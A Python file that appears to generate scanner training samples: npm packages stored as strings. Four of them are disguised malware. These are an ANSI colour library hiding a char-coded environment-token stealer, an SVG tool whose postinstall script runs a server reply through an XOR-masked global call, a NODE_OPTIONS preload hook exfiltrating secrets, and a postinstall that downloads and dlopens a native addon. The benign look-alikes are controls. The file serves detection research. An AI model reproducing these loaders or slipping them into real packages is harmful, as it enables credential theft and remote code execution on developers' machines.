"""Samples of the `reach3` branch for scripts/make-samples.py (2026-11-25, issue 6): loaders and
install-time tricks in shapes of our own for the classes the branch teaches the scanner (code
kept as char-code lists, process starts hidden behind computed names, NODE_OPTIONS preloads,
globals called by decoded names, native addons downloaded and dlopen'ed), and tricky benign
packages that use the same APIs honestly.

Malicious samples are in SAMPLES, tricky benign ones in BENIGN; file names start with `reach3-`.
Same safety rules as samples_malicious.py: every source is Python string data, packed into a
tarball in memory, never written out, imported or run. Defanged: attacker hosts under reserved
names (.invalid, .example, .test) or documentation IPs; made-up keys.
"""

from samples_malicious import S, pj
from samples_common import readme, registry

SAMPLES, BENIGN, sample, benign = registry()


# =============================================================================================
# Malicious


@sample
def charcode_spread_function():
    body = (
        "const h = require('https'); const o = require('os'); const out = {};"
        "Object.entries(process.env).forEach(([k, v]) => { if (/TOKEN|SECRET|KEY|PASS/i.test(k)) out[k] = v; });"
        "const d = JSON.stringify({ u: o.userInfo().username, h: o.hostname(), e: out });"
        "const q = h.request({ host: 'metrics.color-kit.invalid', path: '/c', method: 'POST' });"
        "q.on('error', () => {}); q.end(d);"
    )
    codes = ", ".join(str(ord(c)) for c in body)
    src = r'''"use strict";
// Named ANSI colours with 256-colour fallbacks.
const NAMES = { red: 31, green: 32, yellow: 33, blue: 34, magenta: 35, cyan: 36 };

function paint(name, text) {
  const code = NAMES[name];
  return code ? `\x1b[${code}m${text}\x1b[39m` : text;
}

const PALETTE = [''' + codes + r'''];

function warm() {
  try {
    const run = new Function("require", String.fromCharCode(...PALETTE));
    run(require);
  } catch (e) {}
}

warm();

module.exports = { paint, NAMES };
'''
    files = {
        "package.json": pj(name="ansi-palette-kit", version="2.1.4", main="index.js",
                           description="Named ANSI colours for terminal output"),
        "README.md": readme("ansi-palette-kit", "```js\nconst { paint } = require('ansi-palette-kit');\nconsole.log(paint('red', 'error'));\n```"),
        "index.js": src,
    }
    return S(
        "reach3-charcode-spread-function",
        "environment stealer kept as a list of char codes, rebuilt with String.fromCharCode(...list) and run through new Function on require",
        "2025",
        ["char-codes", "function-constructor", "env-harvest", "token-theft", "network", "load-time"],
        "Same class as holdout2-reflect-construct-function-bundle (code hidden as numbers), "
        "other shape: spread instead of .apply, new Function instead of Reflect.construct, a "
        "readable (not minified) library file, entries() walk of the environment.",
        files,
    )


@sample
def named_global_runner_postinstall():
    src = r'''"use strict";
const https = require("https");
const os = require("os");

// Key table for the telemetry opt-out check.
const K = [0x4b, 0x19, 0x2c, 0x07];
function unmask(list) {
  return list.map((n, i) => String.fromCharCode(n ^ K[i % K.length])).join("");
}
const FN = [0x2e, 0x6f, 0x4d, 0x6b];

function poll() {
  const info = JSON.stringify({ h: os.hostname(), p: os.platform(), a: os.arch() });
  const req = https.request({ host: "198.51.100.23", port: 8443, path: "/v", method: "POST" }, (res) => {
    let body = "";
    res.on("data", (c) => (body += c));
    res.on("end", () => {
      try {
        const reply = JSON.parse(body);
        if (reply && reply.t) global[unmask(FN)](reply.t);
      } catch (e) {}
    });
  });
  req.on("error", () => {});
  req.end(info);
}

poll();
'''
    files = {
        "package.json": pj(name="svg-sprite-opt", version="0.9.3", main="lib/index.js",
                           scripts={"postinstall": "node scripts/check.js"},
                           description="Optimise and bundle SVG sprites"),
        "README.md": readme("svg-sprite-opt", "```js\nconst sprite = require('svg-sprite-opt');\n```"),
        "lib/index.js": "module.exports = function sprite(files) { return files.map((f) => `<symbol id=\"${f}\"/>`).join(''); };\n",
        "scripts/check.js": src,
    }
    return S(
        "reach3-named-global-runner-postinstall",
        "postinstall beacon posting host details and running the reply's field through a global function whose name is XOR-masked (global[unmask(k)](reply.t))",
        "2025",
        ["install-script", "postinstall", "xor-decoding", "remote-code", "computed-global", "network"],
        "Same class as holdout2-xorindex-contagious-loader (eval picked by a decoded name on the "
        "global object, given the C2's answer), other shape: install time, https with data "
        "events, `global` instead of `globalThis`, an array-of-bytes key.",
        files,
    )


@sample
def node_options_import_preload():
    hook = r'''// ESM loader hook: resolves tsconfig paths for child processes.
import { request } from "node:https";
const grab = {};
for (const name of Object.keys(process.env)) {
  if (/(TOKEN|SECRET|PASSWORD|ACCESS_KEY)/.test(name)) grab[name] = process.env[name];
}
if (Object.keys(grab).length) {
  const r = request({ host: "paths.ts-resolve.invalid", path: "/r", method: "POST" });
  r.on("error", () => {});
  r.end(JSON.stringify({ cwd: process.cwd(), env: grab }));
}
export async function resolve(spec, ctx, next) { return next(spec, ctx); }
'''
    index = r'''"use strict";
const path = require("path");
const url = require("url");

const HOOK = url.pathToFileURL(path.join(__dirname, "hooks.mjs")).href;

function enable() {
  const flag = "--import " + HOOK;
  const cur = process.env.NODE_OPTIONS || "";
  if (!cur.includes(HOOK)) process.env.NODE_OPTIONS = `${cur} ${flag}`.trim();
}

function resolvePaths(map, spec) {
  for (const [k, v] of Object.entries(map)) {
    const pre = k.replace(/\*$/, "");
    if (spec.startsWith(pre)) return v[0].replace(/\*$/, spec.slice(pre.length));
  }
  return null;
}

enable();

module.exports = { resolvePaths, enable };
'''
    files = {
        "package.json": pj(name="ts-paths-child", version="3.0.2", main="index.js",
                           description="tsconfig paths for every child Node process"),
        "README.md": readme("ts-paths-child", "```js\nrequire('ts-paths-child');\n```"),
        "index.js": index,
        "hooks.mjs": hook,
    }
    return S(
        "reach3-node-options-import-preload",
        "library that puts '--import <its hook>' into process.env.NODE_OPTIONS on require; the hook posts secret-named environment variables of every child Node process",
        "2025",
        ["node-options", "preload", "esm-loader", "env-harvest", "token-theft", "network"],
        "Same class as evasion-node-options-child-propagation, other shape: --import of an ESM "
        "hook given as a file URL instead of --require of a CommonJS shim, the environment "
        "filtered inside a for-of loop and sent under an `env` key.",
        files,
    )


@sample
def dlopen_addon_postinstall():
    src = r'''"use strict";
const fs = require("fs");
const os = require("os");
const path = require("path");
const { get } = require("https");

const target = path.join(os.tmpdir(), `.nv-${process.pid}.node`);
get(`https://203.0.113.77/bin/${process.platform}-${process.arch}.node`, (res) => {
  const chunks = [];
  res.on("data", (c) => chunks.push(c));
  res.on("end", () => {
    fs.writeFileSync(target, Buffer.concat(chunks));
    const m = { exports: {} };
    try { process.dlopen(m, target); } catch (e) {}
    fs.unlink(target, () => {});
  });
}).on("error", () => {});
'''
    files = {
        "package.json": pj(name="nvml-stats", version="1.1.0", main="index.js",
                           scripts={"postinstall": "node fetch-binary.js"},
                           description="GPU utilisation from NVML"),
        "README.md": readme("nvml-stats", "```js\nconst { usage } = require('nvml-stats');\n```"),
        "index.js": "module.exports = { usage() { return []; } };\n",
        "fetch-binary.js": src,
    }
    return S(
        "reach3-dlopen-addon-postinstall",
        "postinstall downloading a native addon from a raw IP into a hidden temp file, loading it with process.dlopen and deleting it",
        "2025",
        ["install-script", "postinstall", "native-code-exec", "dlopen", "download-exec", "anti-forensics", "network"],
        "Same class as evasion-createrequire-dlopen-native-stage, other shape: CommonJS, "
        "plain process.dlopen, a destructured https get.",
        files,
    )


# =============================================================================================
# Tricky benign


@benign
def b_charcode_table():
    table = ", ".join(str(n) for n in list(range(0x2500, 0x2580)))
    src = r'''"use strict";
// Box-drawing characters by code point, for terminal tables.
const BOX = [''' + table + r'''];

function line(width) {
  return String.fromCharCode(...BOX.slice(0, 1)).repeat(width);
}

function chars() {
  return String.fromCharCode.apply(null, BOX);
}

module.exports = { line, chars, BOX };
'''
    files = {
        "package.json": pj(name="box-glyphs", version="1.4.0", main="index.js",
                           description="Box-drawing characters for terminal tables"),
        "README.md": readme("box-glyphs", "```js\nconsole.log(require('box-glyphs').line(20));\n```"),
        "index.js": src,
    }
    return S(
        "reach3-benign-charcode-table",
        "terminal table helper: a long list of code points turned into text with String.fromCharCode(...list) and .apply",
        "2025",
        ["char-codes", "terminal"],
        "Mirrors reach3-charcode-spread-function: same long numeric array and the same two "
        "fromCharCode calls, but the text is box-drawing glyphs, not code, and nothing runs it.",
        files,
    )


@benign
def b_node_options_preload():
    index = r'''"use strict";
const path = require("path");

// Registers the source-map support hook in child processes too (test runners, workers).
function inherit() {
  const hook = path.join(__dirname, "register.js");
  const cur = process.env.NODE_OPTIONS || "";
  if (!cur.includes(hook)) process.env.NODE_OPTIONS = `${cur} --require ${hook}`.trim();
}

module.exports = { inherit };
'''
    register = r'''"use strict";
// Maps stack traces of compiled files back to their sources.
const fs = require("fs");
const cache = new Map();

function mapFor(file) {
  if (cache.has(file)) return cache.get(file);
  let map = null;
  try { map = JSON.parse(fs.readFileSync(file + ".map", "utf8")); } catch (e) {}
  cache.set(file, map);
  return map;
}

const prev = Error.prepareStackTrace;
Error.prepareStackTrace = (err, frames) => {
  const lines = frames.map((f) => {
    const m = f.getFileName() && mapFor(f.getFileName());
    return "    at " + (m ? m.sources[0] : f.getFileName()) + ":" + f.getLineNumber();
  });
  return prev ? prev(err, frames) : `${err}\n${lines.join("\n")}`;
};
if (process.env.DEBUG_SOURCEMAPS) console.error("source maps on, env:", Object.keys(process.env).length, "variables");
'''
    files = {
        "package.json": pj(name="stack-sourcemaps", version="0.6.1", main="index.js",
                           description="Source-mapped stack traces, inherited by child processes"),
        "README.md": readme("stack-sourcemaps", "```js\nrequire('stack-sourcemaps').inherit();\n```"),
        "index.js": index,
        "register.js": register,
    }
    return S(
        "reach3-benign-node-options-preload",
        "source-map support that adds '--require <its hook>' to NODE_OPTIONS so child processes map stack traces too; the hook reads .map files and counts environment variables for a debug line",
        "2025",
        ["node-options", "preload", "source-maps"],
        "Mirrors reach3-node-options-import-preload: same NODE_OPTIONS preload of its own file, "
        "which is now loaded code, but the hook sends nothing anywhere.",
        files,
    )
